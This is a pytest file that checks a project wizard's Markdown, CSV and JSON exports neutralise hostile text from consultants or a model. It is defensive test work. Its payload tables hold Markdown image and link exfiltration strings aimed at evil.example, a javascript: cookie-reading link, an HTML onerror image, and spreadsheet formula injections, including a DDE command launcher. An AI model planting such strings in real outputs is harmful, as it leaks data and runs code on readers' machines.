"""Exports carry no live links: text from a model or a consultant shows as written and does nothing.

A project is filled through the real wizard on a TinyDB store: the consultant types hostile
text (the project name, a notes item) and a scripted model replies with hostile text (a
clarifying question, an answer's basis and value). The Markdown export is rendered with a
real CommonMark renderer and the spreadsheet export read back as CSV.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from storage import TinyDBStorage
from tests.support import Clock
from wizard_core import open_wizard
from wizard_core.advisors.offline.advisor import OfflineAdvisor

MARKDOWN_PAYLOADS = {
    "an image fetching a URL": "![chart](http://evil.example/steal.png?d=SECRET)",
    "a javascript link": "[open the drawings](javascript:alert(document.cookie))",
    "a reference-style link": "[see here][ref] [ref]: https://evil.example/track",
    "an angle-bracket autolink": "<https://evil.example/track?d=1>",
    "raw HTML image": '<img src="http://evil.example/pixel.gif" onerror="alert(1)">',
    "raw HTML link": '<a href="https://evil.example">the code</a>',
    "a bare URL": "see https://evil.example/steal?d=SECRET for the plans",
    "a www address": "plans at www.evil.example/plans",
    "an e-mail address": "write to leak@evil.example today",
    "an escaped image": "\\![x](http://evil.example/x.png)",
    "an image in a code span": "`![x](http://evil.example/y.png)`",
    "an image in a table cell break": "A | B ![x](http://evil.example/z.png) | C",
    "a data URL image": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "a link split over lines": "[click\nhere](http://evil.example/\nsteal)",
}


class ScriptedModel(OfflineAdvisor):
    """The offline advisor, except on 3.27, where a 'model' asks, then answers with ``payload``."""

    def __init__(self, payload: str) -> None:
        super().__init__()
        self.payload = payload
        self.asked = False

    def advise(self, request: Any) -> Any:
        if request.item.number != "3.27":
            return super().advise(request)
        if not self.asked:
            self.asked = True
            return {"type": "clarifying_question", "content": f"Which? {self.payload}", "confidence": 0.5}
        return {
            "type": "form_answer",
            "content": f"Basis: {self.payload}",
            "confidence": 0.8,
            "obc_references": ["3.2.4.1"],
            "value": f"Model value {self.payload}",
        }


def _exports(tmp_path: Path, payload: str) -> dict[str, str]:
    """A project holding ``payload`` where a consultant and a model put text, exported three ways."""
    wizard = open_wizard(TinyDBStorage(tmp_path / "data"), ScriptedModel(payload), clock=Clock())
    project = wizard.start_project(f"Tower {payload}"[:120]).project_id
    wizard.go_to_item(project, "3.26")
    wizard.process_user_response(project, f"Floors 1 h. {payload}")
    wizard.go_to_item(project, "3.27")
    wizard.process_user_response(project, f"It applies: {payload}")  # the model asks
    wizard.process_user_response(project, f"Yes. {payload}")  # the model answers
    state = wizard.load_project(project)
    assert payload.split()[0] in state.answer_for("3.27").value  # the hostile text is stored as given
    return {fmt: wizard.export(state, fmt) for fmt in ("md", "csv", "json")}


def _render(md: str) -> str:
    """HTML as a viewer that trusts every link would draw it (markdown-it refuses javascript: by itself)."""
    renderer = MarkdownIt("commonmark").enable("table")
    renderer.validateLink = lambda url: True
    return renderer.render(md)


def _visible(html: str) -> str:
    return re.sub(r"<[^>]+>", "", html).replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">")


@pytest.mark.parametrize("payload", list(MARKDOWN_PAYLOADS.values()), ids=list(MARKDOWN_PAYLOADS))
def test_markdown_export_renders_hostile_text_inert_and_keeps_it_readable(
    tmp_path: Path, payload: str
) -> None:
    md = _exports(tmp_path, payload)["md"]
    html = _render(md)

    assert "<img" not in html and "<a " not in html and "<script" not in html.lower()
    # No address a viewer would link by itself (GFM autolinks): every one is shown defanged.
    assert not re.search(r"(?i)[a-z]://|www\.|[A-Za-z0-9]@[A-Za-z0-9-]+\.", md)
    # The table keeps its shape: one row per item, five cells each (item, title, answer, status, references).
    table = [line for line in md.splitlines() if line.startswith("| 3.")]
    assert len(table) == 28 and all(len(re.findall(r"(?<!\\)\|", row)) == 6 for row in table)
    # What the consultant and the model wrote is all there, as text, addresses defanged.
    shown = _visible(html)
    words = [w for w in re.findall(r"[A-Za-z]{4,}", payload) if w not in ("http", "https")]
    assert all(word in shown for word in words)
    if "evil.example" in payload and "@" not in payload:
        assert "evil.example" in shown and ("[:]//" in shown or "www[.]" in shown)


def test_the_basis_and_discussion_show_the_hostile_text_defanged(tmp_path: Path) -> None:
    payload = MARKDOWN_PAYLOADS["an image fetching a URL"]
    html = _render(_exports(tmp_path, payload)["md"])
    shown = _visible(html)
    # The basis is the value in the matrix's words; the model's own sentence is not in the Markdown.
    assert "Basis: 3.27 Notes: Model value ![chart](http[:]//evil.example/steal.png?d=SECRET)." in shown
    assert "Basis: Basis:" not in shown
    assert "Q: Which? ![chart](http[:]//evil.example/steal.png?d=SECRET)" in shown
    assert "# Tower ![chart](http[:]//evil.example" not in shown  # the heading is text, not a heading mark
    assert "Tower ![chart](http[:]//evil.example/steal.png?d=SECRET) — building code data matrix" in shown


FORMULAS = {
    "a HYPERLINK formula": '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "a plus formula": "+1+cmd|' /C calc'!A0",
    "a minus formula": "-2+3",
    "an at formula": "@SUM(1+1)",
    "a formula after blanks": "   =1+1",
    "a full-width equals": '\uff1dHYPERLINK("http://evil.example")',
}


@pytest.mark.parametrize("payload", list(FORMULAS.values()), ids=list(FORMULAS))
def test_spreadsheet_export_runs_no_formula_and_links_nothing(tmp_path: Path, payload: str) -> None:
    exports = _exports(tmp_path, payload)
    rows = list(csv.reader(io.StringIO(exports["csv"])))
    assert rows[0][0] == "Item" and len(rows) == 29
    triggers = ("=", "+", "-", "@", "\uff1d", "\t", "\r")
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip(" \t\r\n").startswith(triggers) or cell.startswith("'")
            assert "://" not in cell
    notes = next(row for row in rows if row[0] == "3.27")
    assert (
        notes[2].startswith("Model value") and payload.strip().split("(")[0].lstrip("=+-@\uff1d") in notes[2]
    )


def test_json_export_keeps_every_text_exactly(tmp_path: Path) -> None:
    payload = MARKDOWN_PAYLOADS["an image fetching a URL"]
    document = json.loads(_exports(tmp_path, payload)["json"])
    item = next(i for i in document["items"] if i["item"] == "3.27")
    assert item["value"] == f"Model value {payload}"  # data for programs: exact, never rendered
    assert document["name"] == f"Tower {payload}"
